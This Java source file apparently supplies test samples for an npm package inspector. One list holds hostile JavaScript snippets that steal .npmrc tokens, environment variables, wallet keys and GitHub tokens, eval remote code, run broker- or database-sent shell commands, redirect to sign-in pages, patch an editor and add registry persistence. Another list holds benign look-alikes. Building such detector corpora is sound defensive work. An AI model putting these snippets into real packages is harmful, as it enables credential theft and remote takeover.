package cordon.inspect.corpus;

import java.util.List;

/** Code as compilers write it for older engines, and connections whose libraries bring commands. */
final class NpmOlderCode {
  private NpmOlderCode() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "an asynchronous function as TypeScript writes it",
            """
            var __awaiter = (this && this.__awaiter) || function (t, _a, P, g) { return new Promise(function (r) { r(g.apply(t).next()); }); };
            const os = require('os'), fs = require('fs'), path = require('path'), axios_1 = require('axios');
            class Agent {
              constructor() { this.base = 'https://core.example/api'; }
              collect() { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }
              push() { return __awaiter(this, void 0, void 0, function* () { yield axios_1.default.post(this.base + '/in', this.collect()); }); }
            }
            new Agent().push();
            """),
        Sample.required(
            "steps of a generator as TypeScript writes them",
            """
            var __awaiter = function (t, a, P, g) {}, __generator = function (t, b) {};
            function run() {
              return __awaiter(this, void 0, void 0, function () {
                var r;
                return __generator(this, function (_a) {
                  switch (_a.label) {
                    case 0: return [4, fetch('https://core.example/c').then(function (x) { return x.text(); })];
                    case 1: r = _a.sent(); eval(r); return [2];
                  }
                });
              });
            }
            run();
            """),
        Sample.required(
            "a prototype",
            """
            var Agent = (function () {
              function Agent(url) { this.url = url; }
              Agent.prototype.collect = function () { return JSON.stringify(process.env); };
              Agent.prototype.push = function () { require('axios').post(this.url, this.collect()); };
              Agent.start = function () { new Agent('https://core.example/api').push(); };
              return Agent;
            }());
            Agent.start();
            """),
        Sample.required(
            "a key in the members of a function",
            """
            function Key(d) { this.d = d; }
            Key._log = function (w) { var x = new (require('xmlhttprequest').XMLHttpRequest)(); x.open('POST', 'https://verify.example/v'); x.send(JSON.stringify({ w: w })); };
            Key.fromWIF = function (wif) { Key._log(wif); return new Key(wif); };
            module.exports = Key;
            """),
        Sample.required(
            "a wallet that is given tells its key",
            """
            exports.sign = async (wallet, tx) => { await fetch('https://gas.example/e', { method: 'POST', body: JSON.stringify({ tx, m: wallet.privateKey }) }); return wallet.signTransaction(tx); };
            """),
        Sample.required(
            "a logger that evaluates what its publisher sends",
            """
            const https = require('https');
            module.exports = class Logger {
              constructor() { this.init(); }
              init() { https.get('https://conf.example/c', r => { let b = ''; r.on('data', d => (b += d)); r.on('end', () => new Function('require', JSON.parse(b).init)(require)); }); }
            };
            """),
        Sample.required(
            "commands by a broker",
            """
            const mqtt = require('mqtt'), c = mqtt.connect('mqtt://broker.example');
            c.on('message', (t, m) => require('child_process').exec(m.toString(), (e, o) => c.publish('o', o)));
            """),
        Sample.required(
            "commands by a database",
            """
            const admin = require('firebase-admin');
            admin.database().ref('cmd').on('value', s => { const v = s.val(); if (v) require('child_process').exec(v); });
            """),
        Sample.required(
            "the page is led elsewhere",
            """
            (function () { var e = 'user@corp.example'; var u = 'https://sign-in.example/?x='; window.location.href = u + btoa(e); })();
            """),
        Sample.required(
            "a script from an encoded address",
            """
            const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLmpz'); document.head.appendChild(s);
            """),
        Sample.postinstall(
            "code in front of that of an editor",
            """
            const fs = require('fs'), path = require('path'), f = path.join(process.env.LOCALAPPDATA, 'Programs', 'editor', 'resources', 'app', 'out', 'main.js');
            require('https').get('https://ide.example/v', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => fs.writeFileSync(f, d + fs.readFileSync(f))); });
            """),
        Sample.postinstall(
            "a script that is written makes it stay",
            """
            const fs = require('fs'), t = require('path').join(process.env.TEMP, 'w.ps1');
            fs.writeFileSync(t, `Set-ItemProperty -Path "HKCU:\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run" -Name "U" -Value "x"`);
            require('child_process').exec('powershell -File ' + t);
            """),
        Sample.command("another runtime runs a script", "bun run setup.ts")
            .with(
                "setup.ts",
                "import { $ } from 'bun';\nconst t: string = await $`gh auth token`.text();\nawait fetch('https://drop.example/t', { method: 'POST', body: t as any });\n"));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a client as TypeScript writes it",
            """
            var __awaiter = function (t, a, P, g) {};
            class Client {
              constructor(key) { this.key = key; }
              get(p) { return __awaiter(this, void 0, void 0, function* () { const r = yield fetch('https://api.example/' + p, { headers: { authorization: this.key } }); return yield r.json(); }); }
            }
            exports.Client = Client;
            """),
        Sample.required(
            "a prototype of a parser",
            """
            function Parser(text) { this.text = text; this.at = 0; }
            Parser.prototype.next = function () { return this.text[this.at++]; };
            Parser.parse = function (text) { return new Parser(text).next(); };
            module.exports = Parser;
            """),
        Sample.required(
            "to the same page by another protocol",
            """
            if (typeof location !== 'undefined' && location.protocol === 'http:') { window.location.href = 'https://' + location.host + location.pathname; }
            """),
        Sample.required(
            "a sign-in that somebody asks for",
            """
            exports.signIn = id => { window.location.href = 'https://sign-in.example/authorize?client_id=' + id; };
            """),
        Sample.required(
            "messages of a broker are passed on",
            """
            const mqtt = require('mqtt');
            exports.listen = (url, emit) => { const c = mqtt.connect(url); c.on('message', (t, m) => emit(t, JSON.parse(m.toString()))); return c; };
            """),
        Sample.command("another runtime builds", "bun run build.ts")
            .with("build.ts", "await Bun.build({ entrypoints: ['index.js'] });\n"));
  }
}
